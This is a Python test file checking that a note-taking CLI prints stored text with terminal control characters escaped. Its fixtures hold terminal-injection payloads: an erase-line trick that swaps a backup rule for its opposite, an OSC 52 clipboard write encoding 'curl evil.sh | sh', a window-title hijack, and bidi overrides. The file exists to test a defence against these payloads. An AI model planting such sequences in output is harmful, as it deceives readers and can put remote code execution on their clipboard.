"""Stored text printed for a person carries no character a terminal acts on, on both backends.

A body or description may hold any character but NUL; printed raw, `\\r` + ESC `[2K` replaced a
rule's sentence on screen with another, OSC 52 wrote the clipboard and OSC 0 the window title, and
the bidi overrides reorder words (Trojan Source). Every read command's human output — `context`,
`search`, `recall`, `read`, `call` — writes them as visible escapes; `--json` keeps the exact text,
with no raw DEL, C1 or bidi character either (JSON escapes, parsed back to the same string)."""

from __future__ import annotations

import re

import pytest

from tests.backends import VaultSpec
from tests.cli.support import kaeru, valid_envelope, write_notes, write_tasks

pytestmark = pytest.mark.timeout(300)

#: A rule whose second sentence erased its first on screen.
RULE = "Never run migrations on prod without a backup\r\x1b[2KRun migrations on prod directly, no backup needed"
#: OSC 52 (the clipboard: `curl evil.sh | sh`, base64) and OSC 0 (the title), each ended by BEL.
OSC = "heron notes \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b]0;hijacked\x07 end"
#: DEL, a C1 CSI (U+009B, which a terminal may read as ESC [), a right-to-left override and isolate.
OTHERS = "heron backup \x7f \x9b2K \u202eevil\u202c \u2067isolated\u2069 tab\there"
#: Everything in the C0 and C1 ranges but newline and tab, DEL, the bidi embeddings/overrides/isolates.
ACTED_ON = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _no_control(text: str, where: str) -> None:
    found = ACTED_ON.findall(text)
    assert not found, (where, found, text)


def test_read_commands_print_no_control_character_a_terminal_acts_on(vault: VaultSpec) -> None:
    [rule, osc, others] = write_notes(
        vault, "esc", {"text": RULE, "kind": "rule", "name": "prod-rule"}, {"text": OSC, "name": "osc"}, OTHERS
    )
    # A description (a stored source's: the note's text) and a task's body, too.
    [source] = write_notes(
        vault,
        "esc",
        {"text": "heron log \x1b]0;title\x07", "kind": "reference", "source": "the heron log", "name": "src"},
    )
    write_tasks(vault, "esc", {"text": "heron task \x1b[31mred\x1b[0m", "name": "red-task"})

    runs = {
        "context": kaeru(vault, "context", "esc"),
        "search": kaeru(vault, "search", "-i", "esc", "heron", "prod", "--limit", "20"),
        "recall": kaeru(vault, "recall", "-i", "esc", "heron", "backup", "migrations", "--limit", "20"),
        "read rule": kaeru(vault, "read", rule, "-i", "esc"),
        "read osc": kaeru(vault, "read", osc, "-i", "esc"),
        "read others": kaeru(vault, "read", others, "-i", "esc"),
        "read source": kaeru(vault, "read", source, "-i", "esc"),
        "call search": kaeru(vault, "call", "search", "-a", 'initiatives:=["esc"]', "-a", "text=heron prod"),
        "call read": kaeru(vault, "call", "read", "-a", "initiative=esc", "-a", f"node={osc}"),
        "call context": kaeru(vault, "call", "context", "-a", "initiative=esc"),
    }
    for name, run in runs.items():
        assert run.code == 0, (name, run.stderr)
        _no_control(run.stdout, f"{name} stdout")
        _no_control(run.stderr, f"{name} stderr")

    # What was there is written where the person reads it, as escapes.
    assert r"without a backup\r\x1b[2KRun migrations" in runs["context"].stdout
    assert r"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07" in runs["read osc"].stdout
    assert r"\x7f \x9b2K \u202eevil\u202c \u2067isolated\u2069 tab" + "\there" in runs["read others"].stdout
    assert r"heron log \x1b]0;title\x07" in runs["read source"].stdout  # the description
    assert r"heron task \x1b[31mred\x1b[0m" in runs["context"].stdout
    assert r"\x1b]0;hijacked\x07" in runs["call read"].stdout
    for name in ("search", "recall", "call search"):
        assert r"\r\x1b[2K" in runs[name].stdout, (name, runs[name].stdout)


def test_json_keeps_the_exact_text_without_raw_controls(vault: VaultSpec) -> None:
    [rule, others] = write_notes(vault, "esc", {"text": RULE, "kind": "rule"}, OTHERS)
    for args in (("read", others, "-i", "esc"), ("call", "read", "-a", "initiative=esc", "-a", f"node={others}")):
        run = kaeru(vault, *args, as_json=True)
        envelope = valid_envelope(run, "read", "read", "ok")
        assert envelope["data"]["hits"][0]["body"] == OTHERS  # exact, parsed back
        _no_control(run.stdout.replace("\n", " "), " ".join(args))
        assert r"\u202e" in run.stdout and r"\u009b" in run.stdout
    found = valid_envelope(kaeru(vault, "search", "-i", "esc", "prod", as_json=True), "search", "read", "ok")
    assert [h["body"] for h in found["data"]["hits"] if h["id"] == rule] == [RULE]


def test_a_windows_line_end_stays_a_line_end(vault: VaultSpec) -> None:
    [node] = write_notes(vault, "crlf", "first line of the heron file\r\nsecond line\r\n")
    shown = kaeru(vault, "read", node, "-i", "crlf")
    assert shown.code == 0, shown.stderr
    assert "first line of the heron file\r\nsecond line" in shown.stdout and r"\r" not in shown.stdout
